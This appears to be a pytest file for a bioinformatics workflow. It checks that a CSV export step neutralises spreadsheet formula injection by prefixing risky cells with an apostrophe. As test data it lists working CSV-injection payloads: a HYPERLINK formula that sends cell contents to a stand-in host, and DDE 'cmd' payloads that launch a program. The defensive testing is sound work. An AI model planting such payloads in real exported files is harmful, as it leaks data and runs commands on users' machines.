"""Attacks round 4: CSV injection in the workflow's own output tables.

The CSV export (`table_to_csv`, "excel friendly") copied cell text unchanged, so a gene name, a gene
set's name (GMT), a condition level or a column header from the inputs starting with '=', '+', '-',
'@' (`=HYPERLINK("http://x/?"&A1,"ok")`, `@SUM(1+1)*cmd|' /C calc'!A0`) ran as a formula when the user
opened results/.../*.csv in a spreadsheet. Such a cell now gets a leading "'" (OWASP); numbers, lone
signs (a strand) and every other cell are unchanged. Runs the step script in-process (no Snakemake).
"""

from __future__ import annotations

import csv

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from test_step_scripts import step, tsv, write  # noqa: F401 (step is a fixture)

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"ok")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def test_cells_a_spreadsheet_would_run_are_written_as_text(step, tmp_path):
    rows = [["gene", "=set", "note"], *[[f"g{i}", "x", f] for i, f in enumerate(FORMULAS)],
            ["g8", "-1.5e-3", "+"], ["g9", "-", "plain"]]
    table = write(tmp_path / "t.tsv", tsv(rows))
    run = step("table_to_csv.py", {"table": table}, {"csv": tmp_path / "t.csv"})
    assert run.code == 0, run.log
    out = list(csv.reader((tmp_path / "t.csv").open(newline="")))
    assert out[0] == ["gene", "'=set", "note"]
    assert [row[2] for row in out[1:5]] == ["'" + f for f in FORMULAS]
    assert out[5] == ["g8", "-1.5e-3", "+"] and out[6] == ["g9", "-", "plain"]
    assert "would run as spreadsheet formulas" in run.log + run.terminal


@pytest.fixture(scope="module")
def inert():
    from test_step_scripts import SCRIPTS

    source = (SCRIPTS / "table_to_csv.py").read_text()
    namespace: dict = {}
    exec(compile(source.split("def main():")[0].replace("bioplan_step.start(snakemake)", ""), "t", "exec"),  # noqa: S102
         namespace)
    return namespace["inert"]


@settings(max_examples=50, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(min_size=0, max_size=20))
def test_property_no_written_cell_starts_a_formula_unless_it_is_a_number(inert, cell):
    out = inert(cell)
    assert out == cell or out == "'" + cell
    if len(out) > 1 and out.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(out)  # only a number may start so
